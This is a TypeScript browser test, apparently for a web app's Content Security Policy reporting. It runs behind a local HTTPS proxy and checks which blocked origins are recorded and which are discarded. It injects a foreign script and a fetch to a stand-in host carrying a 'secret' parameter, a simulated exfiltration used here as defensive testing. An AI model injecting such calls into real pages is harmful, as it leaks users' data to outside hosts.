import { createHash, X509Certificate } from 'node:crypto';
import { request } from 'node:http';
import { createServer, type Server } from 'node:https';
import type { BrowserContext } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, inject, it } from 'vitest';
import type { Store } from '../../src/core/store/store.ts';
import { freePort } from '../support/free-port.ts';
import { selfSigned } from '../support/self-signed.ts';
import { freshStore } from '../support/stores.ts';
import { fakeOAuth, type Site, startSite } from '../web/support/site.ts';
import { accountNamed, addSource } from '../web/support/sources.ts';
import { openBrowser } from './browser.ts';

const STRANGER = 'https://stranger.example.net';
const FRIEND = 'https://friend.example.com';

/** Browsers send reports from pages over https alone, so a proxy stands in front, as it does where the site is public. */
describe.skipIf(!inject('chromium'))('what a browser reports', { timeout: 240_000 }, () => {
  let store: Store;
  let site: Site;
  let proxy: Server;
  let context: BrowserContext;
  let dispose: () => Promise<void>;
  let url: string;
  beforeAll(async () => {
    ({ store, dispose } = await freshStore());
    const certificate = selfSigned(['localhost']);
    proxy = createServer(certificate, (incoming, outgoing) => {
      const { method, headers, url: path } = incoming;
      const on = request(site.url + path, { method, headers }, (answer) => {
        outgoing.writeHead(answer.statusCode ?? 502, answer.headers);
        answer.pipe(outgoing);
      });
      on.on('error', () => outgoing.destroy());
      incoming.pipe(on);
    });
    const port = await freePort();
    await new Promise<void>((resolve) => proxy.listen(port, '127.0.0.1', resolve));
    url = `https://localhost:${port}`;
    const oauth = {
      ...fakeOAuth(),
      authorizationUrl: ({ state }: { state: string }) =>
        new URL(`${url}/oauth/callback?code=Ada&state=${encodeURIComponent(state)}`),
    };
    site = await startSite(store, { publicUrl: url, oauthOrigin: url, oauth });
    const { publicKey } = new X509Certificate(certificate.cert);
    const key = publicKey.export({ type: 'spki', format: 'der' });
    context = await openBrowser({ trusted: createHash('sha256').update(key).digest('base64') });
  }, 120_000);
  afterAll(async () => {
    await context?.close();
    proxy?.closeAllConnections();
    proxy?.close();
    await site?.close();
    await dispose?.();
  });

  it('reaches the reader’s own page, and nothing of what they allowed is kept', async () => {
    const page = await context.newPage();
    page.setDefaultTimeout(60_000);
    await page.goto(`${url}/sign-in?next=/help`);
    const { user } = await accountNamed(store, 'Ada');
    await addSource(store, user, FRIEND);
    // A friend's script is stopped and reported too: it tells where the reader has a friend.
    await page.goto(`${url}/help`);
    await page.evaluate(`
      document.head.append(Object.assign(document.createElement('script'), { src: '${FRIEND}/x.js' }));
      fetch('${STRANGER}/x?secret=1').catch(() => {});
    `);
    const own = () =>
      store.db.selectFrom('csp_own_violations').select(['csp_user', 'origin', 'directive']).execute();
    await expect
      .poll(own, { timeout: 90_000, interval: 250 })
      .toContainEqual({ csp_user: user, origin: STRANGER, directive: 'connect-src' });
    expect((await own()).map(({ origin }) => origin)).not.toContain(FRIEND);
    const rows = await store.db.selectFrom('csp_violations').select(['origin', 'route']).execute();
    expect(rows).toEqual([{ origin: STRANGER, route: '/help' }]);
    await page.goto(`${url}/data-sources`);
    await page.getByRole('link', { name: `Allow ${STRANGER}` }).click();
    expect(await page.locator('#f-origin').inputValue()).toBe(STRANGER);
  });
});
